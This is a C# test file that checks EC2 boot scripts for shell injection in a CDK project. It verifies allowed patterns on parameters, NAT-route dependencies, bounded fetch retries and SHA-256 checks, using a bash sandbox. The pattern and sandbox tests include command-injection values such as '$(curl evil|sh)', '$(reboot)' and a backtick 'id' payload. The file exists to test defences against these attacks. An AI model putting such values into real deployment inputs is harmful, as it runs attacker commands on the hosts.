using System.Diagnostics;
using System.Text.RegularExpressions;
using Interlink.Templates.Hosts;
using Interlink.Cdk.Tests.Support;

namespace Interlink.Cdk.Tests;

/// <summary>
/// Boot scripts receive deploy-time values as data, never as shell code; every free-text parameter is constrained;
/// hosts wait for the NAT route they fetch through, retry the fetch a bounded number of times, and install only a
/// bundle whose SHA-256 matches the one passed with it.
/// </summary>
[Collection(CdkCollection.Name)]
public sealed class UserDataSafetyTests(ExampleAssemblies examples)
{
    [Theory]
    [MemberData(nameof(Examples.AllWithBundles), MemberType = typeof(Examples))]
    public void No_substituted_value_lands_where_bash_evaluates_it(string example)
    {
        var scripts = 0;
        foreach (var template in examples[example].Templates.Values)
        {
            foreach (var (path, userData) in Json.FindProperty(template.Root, "UserData"))
            {
                scripts++;
                var evaluated = ShellContexts.Of(ShellContexts.ScriptOf(userData)).Where(s => s.Evaluated).ToList();
                Assert.True(evaluated.Count == 0, $"{template.StackName}{path}: {string.Join("; ", evaluated)}");
            }
        }

        if (examples[example].Topology.Targets.CreateHosts)
            Assert.True(scripts > 0, "the hosts' user data was scanned");
    }

    [Fact]
    public void The_scanner_flags_a_value_expanded_in_double_quotes_unquoted_single_quoted_or_in_an_unquoted_heredoc()
    {
        // The shape of the boot script before this check existed: --input ServiceBundleKey='$(…)' ran on the hosts.
        var old = "#!/bin/bash\naws s3 cp \"s3://${BundleBucket}/${BundleKey}\" \"$bundle\" --region ${AWS::Region}\necho '${X}'\ncat <<EOF\n${Y}\nEOF\n";
        Assert.Equal(
            ["BundleBucket double-quoted", "BundleKey double-quoted", "AWS::Region unquoted", "X single-quoted", "Y heredoc"],
            ShellContexts.Of(old).Select(s => $"{s.Variable} {s.Context}"));
        Assert.All(ShellContexts.Of(old), s => Assert.True(s.Evaluated));

        var safe = "cat > f <<'EOF'\n${BundleKey}\nEOF\n# ${Note}\necho \"$key\"\n";
        Assert.All(ShellContexts.Of(safe), s => Assert.False(s.Evaluated, s.ToString()));
    }

    [Theory]
    [MemberData(nameof(Examples.AllWithBundles), MemberType = typeof(Examples))]
    public void Every_free_text_parameter_has_an_AllowedPattern(string example)
    {
        foreach (var template in examples[example].Templates.Values)
        {
            foreach (var (name, parameter) in template.Parameters)
            {
                var type = parameter.GetProperty("Type").GetString();
                if (type is not ("String" or "CommaDelimitedList"))
                    continue;
                Assert.True(parameter.TryGetProperty("AllowedPattern", out var pattern) && pattern.GetString() is { Length: > 0 },
                    $"{template.StackName}: parameter {name} ({type}) has no AllowedPattern");
            }
        }
    }

    [Theory]
    [InlineData(AllowedPatterns.S3Bucket, "my-bucket.example-1", "$(reboot)")]
    [InlineData(AllowedPatterns.S3Bucket, "cdk-hnb659fds-assets-111111111111-us-east-1", "My_Bucket")]
    [InlineData(AllowedPatterns.S3Key, "releases/interlink-service-linux-arm64.tar.gz", "$(curl evil|sh)")]
    [InlineData(AllowedPatterns.S3Key, "a/b(1).tar.gz", "a\nb")]
    [InlineData(AllowedPatterns.S3Key, "x.tar.gz", "x\"; reboot; \".tar.gz")]
    [InlineData(AllowedPatterns.Sha256, "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08")]
    [InlineData(AllowedPatterns.EndpointServiceName, "com.amazonaws.vpce.us-west-2.vpce-svc-0123456789abcdef0", "com.amazonaws.vpce.us-west-2.vpce-svc-0123456789abcdef0`id`")]
    public void Patterns_admit_real_values_and_refuse_shell_syntax(string pattern, string good, string bad)
    {
        Assert.Matches(new Regex(pattern), good);
        Assert.DoesNotMatch(new Regex(pattern), bad);
    }

    [Theory]
    [InlineData("vpc")]
    [InlineData("pcx")]
    [InlineData("rtb")]
    public void EC2_ID_patterns_admit_8_and_17_hex_digits_only(string prefix)
    {
        var pattern = new Regex(AllowedPatterns.Ec2Id(prefix));
        Assert.Matches(pattern, $"{prefix}-0123abcd");
        Assert.Matches(pattern, $"{prefix}-0123456789abcdef0");
        Assert.DoesNotMatch(pattern, $"{prefix}-0123456789");
        Assert.DoesNotMatch(pattern, $"{prefix}-0123abcd;reboot");
    }

    [Fact]
    public void Without_a_published_service_the_bundle_location_and_its_SHA_256_are_constrained_inputs()
    {
        var parameters = examples[Examples.Seed].Provider.Parameters;
        Assert.Equal(AllowedPatterns.S3Bucket, parameters["ServiceBundleBucket"].GetProperty("AllowedPattern").GetString());
        Assert.Equal(AllowedPatterns.S3Key, parameters["ServiceBundleKey"].GetProperty("AllowedPattern").GetString());
        Assert.Equal("^[0-9a-f]{64}$", parameters["ServiceBundleSha256"].GetProperty("AllowedPattern").GetString());
        foreach (var host in examples[Examples.Seed].Provider.OfType("AWS::EC2::Instance"))
            Assert.Equal("ServiceBundleSha256", Json.RefName(SubVariables(host).GetProperty("BundleSha256")));
    }

    [Fact]
    public void A_published_bundle_carries_its_SHA_256_computed_at_synth_as_a_literal()
    {
        var x = examples[ExampleAssemblies.SeedWithBundles];
        var expected = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData("stand-in\r\nservice bundle\n"u8));
        Assert.All(x.Provider.OfType("AWS::EC2::Instance"), h => Assert.Equal(expected, SubVariables(h).GetProperty("BundleSha256").GetString()));
        var probe = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData("stand-in probe bundle"u8));
        var client = x.Consumer("west").Single("AWS::EC2::Instance");
        Assert.Equal(probe, SubVariables(client).GetProperty("ProbeSha256").GetString());
        Assert.DoesNotContain(x.Provider.Parameters.Keys, k => k.StartsWith("ServiceBundle", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Examples.Created), MemberType = typeof(Examples))]
    public void Every_host_depends_on_the_NAT_default_route_of_its_subnet(string example)
    {
        foreach (var template in examples[example].Templates.Values)
        {
            var resources = template.Root.GetProperty("Resources");
            foreach (var host in template.OfType("AWS::EC2::Instance"))
            {
                var subnet = Json.RefName(host.Prop("SubnetId"));
                var table = template.OfType("AWS::EC2::SubnetRouteTableAssociation").Single(a => Json.RefName(a.Prop("SubnetId")) == subnet).Prop("RouteTableId");
                var route = template.OfType("AWS::EC2::Route").Single(r => r.Str("DestinationCidrBlock") == "0.0.0.0/0" && Json.RefName(r.Prop("RouteTableId")) == Json.RefName(table));
                Assert.True(route.Has("NatGatewayId"), $"{route.LogicalId} is the NAT route");
                var dependsOn = resources.GetProperty(host.LogicalId).TryGetProperty("DependsOn", out var d) ? d : default;
                var names = dependsOn.ValueKind == JsonValueKind.Array ? Json.Strings(dependsOn) : dependsOn.ValueKind == JsonValueKind.String ? [dependsOn.GetString()!] : [];
                Assert.True(names.Contains(route.LogicalId), $"{template.StackName}/{host.LogicalId} does not depend on {route.LogicalId}");
            }
        }
    }

    [Fact]
    public void The_service_script_fetches_with_bounded_retries_and_verifies_before_installing()
    {
        var script = ServiceUserData.Render(new ServiceUserDataOptions("demo", 8080, "/health"));
        var fetch = script.IndexOf("aws s3 cp", StringComparison.Ordinal);
        var verify = script.IndexOf("sha256sum", StringComparison.Ordinal);
        var install = script.IndexOf("tar -xzf", StringComparison.Ordinal);
        Assert.True(fetch > 0 && verify > fetch && install > verify, "fetch, then verify, then install");
        Assert.Contains("for attempt in $(seq 1 10)", script, StringComparison.Ordinal);
        Assert.Contains("if aws s3 cp", script, StringComparison.Ordinal);
    }

    [Fact]
    public void In_bash_a_value_is_data_the_fetch_retries_and_a_wrong_digest_is_refused()
    {
        using var sandbox = new BashSandbox();
        const string content = "bundle bytes";
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData("bundle bytes"u8));
        var hostile = $"$(touch {sandbox.Path("pwned")})";

        var ok = sandbox.Run(content, failures: 2, key: hostile, sha256: sha);
        Assert.True(ok.ExitCode == 0, ok.Output);
        Assert.False(File.Exists(sandbox.Path("pwned")), "a value containing $(…) was executed");
        Assert.Contains($"installed key={hostile}", ok.Output, StringComparison.Ordinal);
        Assert.Equal(3, sandbox.Calls());
        Assert.Contains($"s3://my-bucket/{hostile}", File.ReadAllText(sandbox.Path("aws.log")), StringComparison.Ordinal);

        var wrong = sandbox.Run(content, failures: 0, key: "k", sha256: new string('0', 64));
        Assert.NotEqual(0, wrong.ExitCode);
        Assert.Contains("not the expected", wrong.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("installed", wrong.Output, StringComparison.Ordinal);

        var down = sandbox.Run(content, failures: 99, key: "k", sha256: sha);
        Assert.NotEqual(0, down.ExitCode);
        Assert.Contains("after 3 attempts", down.Output, StringComparison.Ordinal);
    }

    private static JsonElement SubVariables(Resource host) => host.Prop("UserData").GetProperty("Fn::Base64").GetProperty("Fn::Sub")[1];

    /// <summary>Runs the boot scripts' value passing and verified fetch in bash, with a stand-in 'aws' on PATH.</summary>
    private sealed class BashSandbox : IDisposable
    {
        private readonly string root = Directory.CreateTempSubdirectory("interlink-boot-").FullName;

        public string Path(string name) => System.IO.Path.Combine(root, name);

        public int Calls() => File.ReadAllLines(Path("aws.log")).Length;

        public (int ExitCode, string Output) Run(string content, int failures, string key, string sha256)
        {
            File.WriteAllText(Path("source"), content);
            File.Delete(Path("aws.log"));
            File.WriteAllText(Path("aws.log"), "");
            // Stand-in for the AWS CLI: logs its arguments, fails the first N calls, then "downloads" the source.
            File.WriteAllText(Path("aws"), $"""
                #!/bin/bash
                echo "$*" >> {Path("aws.log")}
                n=$(wc -l < {Path("aws.log")})
                if [ "$n" -le {failures} ]; then echo "could not connect" >&2; exit 1; fi
                cp {Path("source")} "$4"
                """);
            if (!OperatingSystem.IsWindows())
                File.SetUnixFileMode(Path("aws"), UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
            var values = new Dictionary<string, string> { ["BundleBucket"] = "my-bucket", ["BundleKey"] = key, ["BundleSha256"] = sha256, ["AWS::Region"] = "us-east-1" };
            var script = "set -euo pipefail\n"
                + BootValues.Render(Path("values/service.values"), ServiceUserData.Values)
                + $"bundle={Path("bundle.tar.gz")}\n"
                + BootValues.FetchVerified("$bundle", "sample service", attempts: 3, backoffSeconds: 0)
                + "echo \"installed key=$key\"\n";
            // What CloudFormation's Fn::Sub does: replace each ${Name} with its value, verbatim.
            foreach (var (name, value) in values)
                script = script.Replace("${" + name + "}", value, StringComparison.Ordinal);
            File.WriteAllText(Path("boot.sh"), script);

            var start = new ProcessStartInfo("bash", [Path("boot.sh")]) { RedirectStandardOutput = true, RedirectStandardError = true };
            start.Environment["PATH"] = root + ":" + Environment.GetEnvironmentVariable("PATH");
            using var process = Process.Start(start)!;
            var stdout = process.StandardOutput.ReadToEndAsync();
            var stderr = process.StandardError.ReadToEndAsync();
            Assert.True(process.WaitForExit(30_000), "the script finished");
            return (process.ExitCode, stdout.Result + stderr.Result);
        }

        public void Dispose() => Directory.Delete(root, recursive: true);
    }
}
